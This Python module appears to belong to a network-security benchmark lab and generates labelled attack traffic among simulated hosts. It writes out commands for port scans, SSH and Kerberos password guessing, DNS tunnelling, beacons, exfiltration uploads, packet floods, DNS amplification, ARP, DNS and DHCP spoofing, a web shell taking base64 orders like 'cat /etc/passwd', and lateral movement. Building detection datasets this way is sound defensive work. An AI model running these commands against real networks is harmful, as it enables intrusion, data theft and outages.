"""What attackers do, by ordinary tools, only ever to hosts of the same scenario."""

from __future__ import annotations

import base64
import math
import random
import string
from collections.abc import Callable, Iterator
from dataclasses import replace
from urllib.parse import quote

from benchmarks.lab.habits import Occasion, Request, chat_with
from benchmarks.lab.scenario import Attack
from benchmarks.lab.services import (
    PROGRAMS,
    PYTHON,
    dhcp_server,
    kerberos_settings,
    principals,
    realm,
    tunnel_domain,
)
from benchmarks.lab.world import PAGES, Step, words

ORDERS = (
    "id",
    "uname -a",
    "ls -la /etc",
    "cat /etc/passwd",
    "ip addr",
    "df -h",
    "ls -laR /usr/share/doc/ncat",
)
MOST = 800  # occasions of one slow attack, and FEWEST, whatever its pace
FEWEST = 12
START = 1.5  # seconds between occasions below which no program is started for each
Plan = Callable[[Occasion, Attack, float], Iterator[Step]]  # the last one: seconds that it may last


def port_scan(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
    """Many ports of two hosts, by whole connections, so that the kernel's own TCP speaks."""
    targets = [h.address for h in o.targets(2)]
    ports = str(int(150 * attack.pace))
    yield o.step("port-scan", "nmap", "-sT", "-n", "-Pn", "-T4", "--top-ports", ports, *targets, limit=lasts)


def host_scan(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
    """A few ports of every address."""
    yield o.step(
        "host-scan",
        *words("nmap -sT -n -Pn -T4 --max-retries 1 -p 22,445,3389"),
        o.world.scenario.network,
        limit=lasts,
    )


def slow_scan(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
    """One port now and then, every ten seconds to ten minutes of a day: below every rate threshold."""
    targets = [h.address for h in o.world.hosts if h.inside and h.name != o.actor.host]
    ports = (21, 22, 23, 25, 80, 110, 139, 143, 389, 443, 445, 1433, 3306, 3389, 5432, 5900, 6379, 8080)
    after, mean = 0.0, _pause(o, attack, lasts, 10.0, 600.0, 5.0)
    while after < lasts:
        knock = o.knock("slow-scan", o.rng.choice(targets), o.rng.choice(ports), after=after, wait=2.0)
        yield replace(knock, apart=True)
        after += mean * o.rng.uniform(0.4, 1.6)


def ssh_guessing(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
    """Half by hydra, half by a plain loop of the ordinary client."""
    if not (found := o.server("ssh")):
        return
    words = [f"{stem}{n}" for stem in ("password", "qwerty", "summer", "admin", "letmein") for n in range(40)]
    people = [a.name for a in o.world.actors]
    name = o.rng.choice(people)
    listed = o.world.run.state / "files" / f"words-{o.actor.gid}"
    if listed.parent.is_dir():
        listed.write_text("\n".join(words[: int(24 * attack.pace)]) + "\n", encoding="utf-8")
    yield o.step(
        "ssh-guessing",
        "hydra",
        "-q",
        "-I",
        "-t",
        "4",
        "-l",
        name,
        "-P",
        str(listed),
        f"ssh://{found[0].address}",
        limit=lasts / 2,
    )
    after = lasts / 2
    while after < lasts - 1:
        options = ("-o", "PreferredAuthentications=password", "-o", "PubkeyAuthentication=no")
        target = f"{o.rng.choice((name, 'root', 'admin', o.rng.choice(people)))}@{found[1]}"
        yield o.step(
            "ssh-guessing", "sshpass", "-p", o.rng.choice(words), "ssh", *options, target, "id", after=after
        )
        after += o.rng.uniform(0.7, 2.0) / attack.pace


def web_guessing(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
    """Passwords of a page that asks for one."""
    sites = o.world.sites(inside=True)
    people = [a.name for a in o.world.actors]
    by_program, site = o.by_program(), o.rng.choice(sites or [""])
    after = 0.0
    while sites and after < lasts:
        who = f"{o.rng.choice(people)}:{o.rng.choice(('password', 'secret', 'winter'))}{o.rng.randrange(99)}"
        page = {"url": f"https://{site}/private/p{o.rng.randrange(PAGES)}.html"}
        yield o.web("web-guessing", page, auth=who, after=after, by_program=by_program)
        after += o.rng.uniform(0.2, 0.9) / attack.pace


def mail_guessing(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
    """Passwords of mail boxes."""
    people = [a.name for a in o.world.actors]
    after = 0.0
    by_program, secure = o.by_program(), o.rng.random() < 0.7
    found = o.server("mail")
    while found and after < lasts:
        who = f"{o.rng.choice(people)}:{o.rng.choice(('password', 'secret', 'winter'))}{o.rng.randrange(99)}"
        yield o.mail_box("mail-guessing", found[1], who, secure=secure, after=after, by_program=by_program)
        after += o.rng.uniform(0.4, 1.5) / attack.pace


def dns_tunnel(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
    """iodine through the site's own resolver, and work done through it."""
    domain = tunnel_domain(o.world)
    resolver = o.world.offering("resolver")[0].address
    tunnel = o.step(
        "dns-tunnel",
        "iodine",
        "-f",
        "-r",
        "-m",
        "220",
        "-I",
        "8",
        "-P",
        "quiet-river",
        "-d",
        "tun7",
        resolver,
        domain,
        limit=lasts,
    )
    yield _as_root(tunnel)
    after = lasts * 0.3
    while after < lasts - 5:
        yield o.step(
            "dns-tunnel",
            "curl",
            "-s",
            "-m",
            "20",
            "-o",
            "/dev/null",
            f"http://10.199.0.1/p{o.rng.randrange(4)}.html",
            after=after,
        )
        after += o.rng.uniform(8, 16) / attack.pace


def _beacon(o: Occasion, attack: Attack, lasts: float, scheme: str) -> Iterator[Step]:
    """Asks for orders at intervals (10 s to 1 h of a day) with jitter (0 to 80 %); now and then an answer goes back."""
    site = o.rented()
    mean = _pause(o, attack, lasts, 10.0, 3600.0, 5.0)
    jitter = o.rng.uniform(0.0, 0.8) if o.squeeze > 1 else 0.3
    after, number, held = 0.0, 0, o.rng.randrange(4)
    by_program, apart = o.by_program() and mean >= START, o.rng.random() < 0.4
    url = f"{scheme}://{site}/{o.rng.choice(('a0', 'a1', 'p3.html'))}"
    while after < lasts:
        request: Request = {"url": url}
        if o.rng.random() < 0.2:
            result = "".join(o.rng.choices("abcdef0123456789", k=o.rng.randrange(200, 900)))
            request |= {"method": "POST", "body": f"r={result}"}
        else:
            request["headers"] = {"Cookie": f"id={o.rng.getrandbits(128):032x}"}
        yield replace(
            o.web(attack.kind, request, after=after, by_program=by_program, apart=apart), apart=True
        )
        if number == held or o.rng.random() < min(
            0.08, 2.0 / (lasts / mean)
        ):  # kept open for a shell at once
            yield replace(_channel(o, attack, site, scheme, after + 0.5), apart=True)
        after, number = after + mean * (1.0 + jitter * o.rng.uniform(-1.0, 1.0)), number + 1


def _channel(o: Occasion, attack: Attack, site: str, scheme: str, after: float) -> Step:
    """Where the server speaks WebSocket one is held and used for a while, elsewhere a connection is just not closed."""
    serving = o.world.serving(site)
    if scheme == "https" and serving is not None and "api" in serving.services:
        seconds = o.rng.randrange(10, 240)
        return replace(chat_with(o, site, seconds), at=round(o.at + after, 3), what=attack.kind)
    used = {"port": 443} if scheme == "https" else {"port": 80, "path": "/a0"}
    return o.client(attack.kind, "forget", after=after, host=site, **used)


def beacon_tls(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
    yield from _beacon(o, attack, lasts, "https")


def beacon_http(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
    yield from _beacon(o, attack, lasts, "http")


def dns_beacon(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
    """Orders asked for in host names."""
    domain = o.rented().split(".", 1)[1]
    mean = _pause(o, attack, lasts, 10.0, 600.0, 4.5)
    jitter = o.rng.uniform(0.0, 0.8) if o.squeeze > 1 else 0.3
    by_program = o.by_program() and mean >= START
    after = 0.0
    while after < lasts:
        name = f"{''.join(o.rng.choices('abcdefghijklmnopqrstuvwxyz234567', k=o.rng.randrange(12, 32)))}.{domain}"
        asked = o.look_up(
            "dns-beacon", (name, o.rng.choice(("A", "TXT"))), after=after, by_program=by_program
        )
        yield replace(asked, apart=True)
        after += mean * (1.0 + jitter * o.rng.uniform(-1.0, 1.0))


def upload_tls(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
    """Everything at once, to a rented server."""
    site = o.rented()
    yield from _pieces(o, attack, lasts, f"https://{site}/files/")


def slow_upload(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
    """A little at a time."""
    site = o.rented()
    after, number, mean = 0.0, 0, _pause(o, attack, lasts, 60.0, 900.0, 10.0)
    by_program = o.by_program() and mean >= START
    while after < lasts:
        piece = {"method": "PUT", "file": o.world.file(o.rng.choice((4, 16)))}
        url = f"https://{site}/files/b{number % 9}"
        yield replace(
            o.web("slow-upload", {"url": url, **piece}, after=after, by_program=by_program), apart=True
        )
        after, number = after + mean * o.rng.uniform(0.6, 1.4), number + 1


def _pieces(o: Occasion, attack: Attack, lasts: float, url: str) -> Iterator[Step]:
    piece = min(attack.size_kb, 1024)
    count = max(1, attack.size_kb // piece)
    by_program = o.by_program()
    for number in range(count):
        after = number * lasts / count
        part = {"url": f"{url}{o.rng.getrandbits(32):08x}", "method": "PUT", "file": o.world.file(piece)}
        yield o.web("upload-tls", part, after=after, limit=max(60.0, lasts), by_program=by_program)


def upload_ssh(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
    outside = o.world.offering("ssh", inside=False)
    if outside:
        target = f"{o.actor.name}@{o.rng.choice(outside).address}:loot"
        yield o.step("upload-ssh", "scp", "-q", o.world.file(attack.size_kb), target, limit=max(60.0, lasts))


def syn_scan(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
    """Half-open, by a raw socket that says what the kernel would say of TTL and window."""
    targets = [h.address for h in o.targets(2)]
    if o.world.host(o.actor.host).uplinks == 2:  # and outside, of which the recording has half
        targets += [h.address for h in o.world.hosts if not h.inside][:2]
    argv = (
        *words("nmap -sS -n -Pn -T4 --send-ip --ttl 64 --top-ports"),
        str(int(100 * attack.pace)),
        *targets,
    )
    yield _as_root(o.step("syn-scan", *argv, limit=lasts))


def udp_scan(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
    fixed = words("nmap -sU -n -Pn -T4 --send-ip --ttl 64 --max-retries 1 --top-ports")
    yield _as_root(
        o.step("udp-scan", *fixed, str(int(40 * attack.pace)), o.targets()[0].address, limit=lasts)
    )


def _pause(o: Occasion, attack: Attack, lasts: float, least: float, most: float, usual: float) -> float:
    """The mean pause of a patient attack, in seconds of the recording.

    A recording that stands for a day: so that the day's pauses lie between `least` and `most` seconds, whatever the
    scenario's pace, as far as the attack then has occasions enough and not too many. Else the `usual` one.
    """
    if o.squeeze <= 1.0:
        return usual / attack.pace
    most = max(least, min(most, lasts * o.squeeze / FEWEST))
    day = math.exp(o.rng.uniform(math.log(least), math.log(most)))
    return max(day / o.squeeze, lasts / MOST, 0.2)


def _as_root(step: Step) -> Step:
    return replace(step, root=True)


def _flood(o: Occasion, attack: Attack, lasts: float, target: str, *argv: str) -> Iterator[Step]:
    """At most 100 packets a second at pace 1, and 5,000 in all."""
    pause = max(500, int(10_000 / attack.pace))
    count = min(5_000, int(lasts * 1e6 / pause))
    yield _as_root(
        o.step(
            attack.kind,
            "hping3",
            "-q",
            "-n",
            "--ttl",
            "64",
            "-i",
            f"u{pause}",
            "-c",
            str(count),
            *argv,
            target,
            limit=lasts,
        )
    )


def syn_flood(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
    if found := o.server("web"):
        ports = ("-s", str(o.rng.randrange(32_768, 55_000)))
        yield from _flood(
            o, attack, lasts, found[0].address, "-S", "-p", "443", "-w", "64240", "--tcp-mss", "1460", *ports
        )


def udp_flood(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
    targets = [h.address for h in o.world.hosts if h.inside and h.name != o.actor.host]
    ports = ("-s", str(o.rng.randrange(32_768, 55_000)))
    yield from _flood(
        o,
        attack,
        lasts,
        o.rng.choice(targets),
        "-2",
        "-p",
        o.rng.choice(("53", "123", "8080")),
        "-d",
        str(o.rng.randrange(60, 900)),
        *ports,
    )


def amplification(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
    """Questions to our resolver in the victim's name: the address is forged, but inside the laboratory."""
    victims = [h.address for h in o.world.hosts if h.name != o.actor.host and "resolver" not in h.services]
    question = o.world.run.state / "files" / f"question-{o.actor.gid}"
    name = o.world.sites(inside=False)[0].split(".", 1)[1]
    body = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x01" + b"".join(
        bytes([len(p)]) + p.encode() for p in name.split(".")
    )
    body += b"\x00\x00\xff\x00\x01" + b"\x00\x00\x29\x10\x00\x00\x00\x00\x00\x00\x00"
    if question.parent.is_dir():
        question.write_bytes(body)
    resolver = o.world.offering("resolver")[0].address
    ports = ("-s", str(o.rng.randrange(32_768, 55_000)))
    argv = (*words("-2 -p 53 -a"), o.rng.choice(victims), "-d", str(len(body)), "-E", str(question), *ports)
    yield from _flood(o, attack, lasts, resolver, *argv)


def slow_http(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
    if found := o.server("web"):
        argv = (*words("slowhttptest -H -r 10 -i 5 -c"), str(int(60 * attack.pace)), "-l", str(int(lasts)))
        yield o.step("slow-http", *argv, "-u", f"http://{found[0].address}/p0.html", limit=lasts + 5)


def lateral_ssh(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
    """From server to server with a stolen key, looking around and carrying files off."""
    servers = [o.world.name_of(h) for h in o.world.offering("ssh", inside=True) if h.name != o.actor.host]
    after, number, stays = 0.0, 0, o.rng.randrange(3)
    while len(servers) > 1 and after < lasts:
        first, second = o.rng.sample(servers, k=2)
        order = o.rng.choice((
            f"ssh {second} 'id; ls -la /home /etc; cat /etc/passwd'",
            f"scp -q /etc/services {second}:s",
            f"ssh {second} hostname; ncat -z -w 2 {second} 5432",
            f"for p in 22 80 445 3306 5432; do ncat -z -w 1 {second} $p; done",
            f"curl -s -m 9 -T /etc/services http://{second}/x; ssh {second} uptime",
        ))  # fmt: skip
        moved = o.step("lateral-ssh", "ssh", f"{o.actor.name}@{first}", order, after=after, limit=40)
        yield replace(moved, apart=True)
        if (
            number == stays or o.rng.random() < 0.08
        ):  # and a terminal left open, in which something is looked at now and then
            stay = (
                f"for n in $(seq {o.rng.randrange(5, 60)}); do uptime; sleep {o.rng.randrange(2, 12)}; done"
            )
            keep = ("-o", "ServerAliveInterval=15", "-o", "ServerAliveCountMax=3")
            stays_on = ("ssh", *keep, f"{o.actor.name}@{second}", stay)
            yield replace(o.step("lateral-ssh", *stays_on, after=after, limit=400), apart=True)
        after, number = after + o.rng.uniform(4.0, 15.0) / attack.pace, number + 1


def lateral_smb(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
    """The same stolen or guessed passwords on every share, then a program left there."""
    people = [a.name for a in o.world.actors]
    hosts = [h for h in o.world.hosts if h.inside and h.name != o.actor.host]
    shares = o.world.offering("share", inside=True)
    after = 0.0
    while after < lasts:
        host = o.rng.choice(shares) if shares and o.rng.random() < 0.7 else o.rng.choice(hosts)
        name = o.rng.choice(people)
        word = o.world.password(name) if o.rng.random() < 0.3 else f"Winter{o.rng.randrange(2020, 2027)}"
        order = o.rng.choice(("ls", f"put {o.world.file(16)} svc{o.rng.randrange(99)}.exe", "recurse; ls"))
        tried = ("smbclient", f"//{host.address}/public", "-U", f"{name}%{word}", "-c", order)
        yield replace(o.step("lateral-smb", *tried, after=after, limit=20), apart=True)
        after += o.rng.uniform(1.0, 6.0) / attack.pace


def web_shell(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
    """A script left on a web server, and orders sent to it, which the server's machine carries out."""
    hosts = [h for h in o.world.offering("api") if h.name != o.actor.host]
    if not hosts:
        return
    host = o.rng.choice(hosts)
    first = (host.sites or ("www",))[0]
    site = f"{first}.{o.world.scenario.domain}" if host.inside else first
    by_program = o.by_program()
    name = f"help{o.rng.randrange(99)}.php"
    script = {"url": f"https://{site}/files/{name}", "method": "PUT", "file": o.world.file(4)}
    yield o.web("web-shell", script, by_program=by_program)
    after = 3.0
    while after < lasts:
        order = base64.b64encode(o.rng.choice(ORDERS).encode()).decode()
        filler = "".join(o.rng.choices(string.ascii_letters, k=o.rng.choice((0, 0, 60, 1500))))
        url = f"{o.rng.choice(('https', 'http'))}://{site}/api/files/{name}"
        request = {"url": url, "method": "POST", "body": f"z0={quote(order, safe='')}&z1={filler}"}
        yield replace(o.web("web-shell", request, after=after, by_program=by_program), apart=True)
        after += o.rng.lognormvariate(1.2, 0.7) / attack.pace


def modbus_writes(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
    """Values that no operator would set."""
    after = 0.0
    while (found := o.server("modbus")) and after < lasts:
        argv = (
            PYTHON,
            str(PROGRAMS / "poll.py"),
            "flood",
            found[0].address,
            str(o.rng.choice((3, 10, 40))),
            "0.2",
            str(o.rng.random()),
        )
        yield replace(o.step("modbus-writes", *argv, after=after, limit=30), apart=True)
        after += o.rng.uniform(4.0, 20.0) / attack.pace


def junk_bytes(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
    """Bytes that no protocol knows, and TCP flags that no kernel sets."""
    printers = [h for h in o.world.offering("print", inside=True) if h.name != o.actor.host]
    after = 0.0
    while after < lasts:
        host = o.rng.choice(printers) if printers and o.rng.random() < 0.2 else o.targets()[0]
        port = str(o.rng.choice((22, 25, 53, 80, 443, 445, 502, 1883, 5432, 9100)))
        if host in printers:
            port = "9100"
        if o.rng.random() < 0.2:
            flags = words(o.rng.choice(("-F -P -U", "-S -F", "-A -R")))
            ports = ("-s", str(o.rng.randrange(32_768, 60_000)), "-p", port)
            argv = (*words("hping3 -q -n --ttl 64 -w 64240 -c 3"), *flags, *ports, host.address)
            yield replace(_as_root(o.step("junk-bytes", *argv, after=after)), apart=True)
        else:
            junk = "".join(chr(o.rng.randrange(1, 256)) for _ in range(int(o.rng.lognormvariate(4, 1.5)) + 1))
            sent = o.step("junk-bytes", "ncat", "-w", "2", host.address, port, after=after, feed=junk)
            yield replace(sent, apart=True)
        after += o.rng.uniform(0.5, 4.0) / attack.pace


def arp_spoofing(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
    """A neighbour's way to a server leads through this host, both ways; it forwards what comes."""
    people = [h for h in o.world.hosts if h.inside and h.role and h.name != o.actor.host]
    servers = [h for h in o.world.hosts if h.inside and h.services and h.name != o.actor.host]
    victim = o.rng.choice(people)
    other = o.rng.choice([h for h in servers if h.name != victim.name])
    argv = ("arpspoof", "-i", "eth0", "-t", victim.address, "-r", other.address)
    yield _as_root(o.step("arp-spoofing", *argv, limit=lasts))


def dns_spoofing(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
    """A neighbour's questions pass by here, and some are answered with this host's address, where a page waits."""
    resolver = o.world.offering("resolver")[0]
    people = [h for h in o.world.hosts if h.inside and h.role and h.name not in (o.actor.host, resolver.name)]
    victims = o.rng.sample(people, k=min(2, len(people)))
    here = o.world.host(o.actor.host)
    names = o.world.run.state / "files" / f"names-{o.actor.gid}"
    if names.parent.is_dir():
        sites = o.world.sites(inside=False)
        names.write_text("".join(f"{here.address}\t{site}\n" for site in sites[:2]), encoding="utf-8")
    for victim in victims:
        argv = ("arpspoof", "-i", "eth0", "-t", victim.address, resolver.address)
        yield _as_root(o.step("dns-spoofing", *argv, limit=lasts))
    filter_ = f"udp dst port 53 and not src host {here.address}"
    yield _as_root(o.step("dns-spoofing", "dnsspoof", "-i", "eth0", "-f", str(names), filter_, limit=lasts))
    if "web" not in here.services:
        site = o.world.sites(inside=False)[0]
        tls, page = o.world.run.state / "tls", o.world.run.state / "www" / site
        secure = (
            "-accept",
            "443",
            "-cert",
            f"{tls}/{site}.pem",
            "-key",
            f"{tls}/{site}.key",
            "-quiet",
            "-WWW",
        )
        yield _as_root(o.step("dns-spoofing", "openssl", "s_server", *secure, limit=lasts))
        plain = (PYTHON, "-m", "http.server", "80", "--directory", str(page))
        yield _as_root(o.step("dns-spoofing", *plain, limit=lasts))


def connect_flood(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
    """Whole connections, opened and dropped as fast as they come, 30 a second at pace 1."""
    if found := o.server("web"):
        port = o.rng.choice((80, 443))
        for number in range(min(4000, int(lasts * 30 * attack.pace))):
            at = number / 30 / attack.pace + o.rng.uniform(0, 0.03)
            yield o.client("connect-flood", "knock", after=at, host=found[0].address, port=port, wait=2.0)


def padded_beacon(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
    """A beacon that hides its regularity: sizes padded at random, pages varied, long sleeps between short bursts."""
    site = o.rented()
    by_program, scheme = o.by_program(), o.rng.choice(("https", "https", "http"))
    after, mean = 0.0, _pause(o, attack, lasts, 120.0, 1800.0, 20.0)
    while after < lasts:
        for _ in range(o.rng.randrange(1, 5)):
            part = o.rng.choice((f"p{o.rng.randrange(PAGES)}.html", f"a{o.rng.randrange(4)}"))
            junk = "".join(o.rng.choices("abcdef0123456789", k=int(o.rng.lognormvariate(5.5, 1.2))))
            request: Request = {"url": f"{scheme}://{site}/{part}?{junk[:20]}"}
            if o.rng.random() < 0.4:
                request |= {"method": "POST", "body": f"q={junk}"}
            else:
                request["headers"] = {"X-Request-Id": junk[:900]}
            ask = o.web("padded-beacon", request, after=after, by_program=by_program)
            yield replace(ask, apart=True)
            after += o.rng.lognormvariate(0.0, 0.8) * min(1.0, mean / 4.0)
        after += o.rng.expovariate(1.0 / mean)


def padded_scan(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
    """Slow, in random order, with bytes in packets that need none, from the port of an allowed service."""
    fixed = words("nmap -sS -n -Pn --send-ip --ttl 64 --max-retries 1 --data-length")
    size, pause = str(o.rng.randrange(8, 200)), f"{int(150 / attack.pace)}ms"
    target = o.targets()[0].address
    count = str(max(10, min(300, int(lasts * attack.pace / 0.2))))
    argv = (*fixed, size, "--scan-delay", pause, "--max-scan-delay", pause, "--top-ports", count, target)
    yield _as_root(o.step("padded-scan", *argv, limit=lasts))


def ticket_guessing(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
    """Which accounts are there, a few likely passwords on each, and with one's own a ticket for every service."""
    if not (found := o.server("kerberos")):
        return
    people = [a.name for a in o.world.actors]
    listed = o.world.run.state / "files" / f"people-{o.actor.gid}"
    guessed = [*people, "admin", "backup", "guest", "oracle", "service"]
    o.rng.shuffle(guessed)
    if listed.parent.is_dir():
        listed.write_text("\n".join(guessed[:30]) + "\n", encoding="utf-8")
    wanted = f"krb5-enum-users.realm='{realm(o.world)}',userdb={listed}"
    asked = ("--script", "krb5-enum-users", "--script-args", wanted)
    yield o.step(
        "ticket-guessing", *words("nmap -sT -n -Pn -p 88"), *asked, found[0].address, limit=lasts / 2
    )
    cache = str(o.world.home(o.actor) / "tickets")
    settings = {
        "KRB5_CONFIG": kerberos_settings(o.world, tcp=o.rng.random() < 0.4),
        "KRB5CCNAME": f"FILE:{cache}",
    }
    after = lasts * 0.3
    while after < lasts * 0.8:
        word = f"{o.rng.choice(('Summer', 'Winter', 'Welcome'))}{o.rng.randrange(2020, 2027)}"
        yield o.step(
            "ticket-guessing", "kinit", o.rng.choice(people), after=after, feed=f"{word}\n", **settings
        )
        after += o.rng.uniform(0.4, 2.0) / attack.pace
    own = f"{o.world.password(o.actor.name)}\n"
    yield o.step("ticket-guessing", "kinit", o.actor.name, after=lasts * 0.85, feed=own, **settings)
    yield o.step("ticket-guessing", "kvno", "-q", *principals(o.world), after=lasts * 0.9, **settings)


def dhcp_spoofing(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
    """A second DHCP server that gives everyone the right address, and itself for gateway and resolver."""
    here = o.world.host(o.actor.host).address
    yield _as_root(
        o.step("dhcp-spoofing", *dhcp_server(o.world, here, here, o.world.home(o.actor)), limit=lasts)
    )


ATTACKS: dict[str, Plan] = {
    "port-scan": port_scan, "host-scan": host_scan, "slow-scan": slow_scan, "ssh-guessing": ssh_guessing,
    "web-guessing": web_guessing, "mail-guessing": mail_guessing, "dns-tunnel": dns_tunnel,
    "beacon-tls": beacon_tls, "beacon-http": beacon_http, "dns-beacon": dns_beacon, "upload-tls": upload_tls,
    "slow-upload": slow_upload, "upload-ssh": upload_ssh, "syn-scan": syn_scan, "udp-scan": udp_scan,
    "syn-flood": syn_flood, "udp-flood": udp_flood, "amplification": amplification, "slow-http": slow_http,
    "lateral-ssh": lateral_ssh, "lateral-smb": lateral_smb, "web-shell": web_shell,
    "modbus-writes": modbus_writes, "junk-bytes": junk_bytes, "arp-spoofing": arp_spoofing,
    "dns-spoofing": dns_spoofing, "connect-flood": connect_flood, "padded-beacon": padded_beacon,
    "padded-scan": padded_scan, "ticket-guessing": ticket_guessing, "dhcp-spoofing": dhcp_spoofing,
}  # fmt: skip
FAMILIES = {
    "port-scan": "scan-port-tcp", "host-scan": "scan-host", "slow-scan": "scan-slow", "syn-scan": "scan-port-tcp",
    "udp-scan": "scan-port-udp", "ssh-guessing": "ssh-bruteforce", "web-guessing": "web-bruteforce",
    "mail-guessing": "mail-bruteforce", "dns-tunnel": "dns-tunnel-iodine", "dns-beacon": "beacon-dns",
    "beacon-tls": "beacon-tls", "beacon-http": "beacon-http", "upload-tls": "exfiltration-tls",
    "upload-ssh": "exfiltration-ssh", "slow-upload": "exfiltration-slow", "slow-http": "ddos-slow-http",
    "syn-flood": "ddos-synflood", "udp-flood": "ddos-udpflood", "amplification": "ddos-dns-amplification",
    "lateral-ssh": "lateral-ssh", "lateral-smb": "lateral-smb", "web-shell": "webshell-plain",
    "modbus-writes": "modbus-fake-command", "junk-bytes": "malformed", "arp-spoofing": "spoof-arp",
    "dns-spoofing": "spoof-dns", "connect-flood": "ddos-connect", "padded-beacon": "beacon-padded",
    "padded-scan": "scan-padded", "ticket-guessing": "kerberos-bruteforce", "dhcp-spoofing": "spoof-dhcp",
}  # fmt: skip


def rng_of(seed: int, attack: Attack, number: int) -> random.Random:
    """One attack's own dice, so that a change of one leaves the others as they were."""
    return random.Random(f"{seed}/attack/{number}/{attack.kind}/{attack.host}")
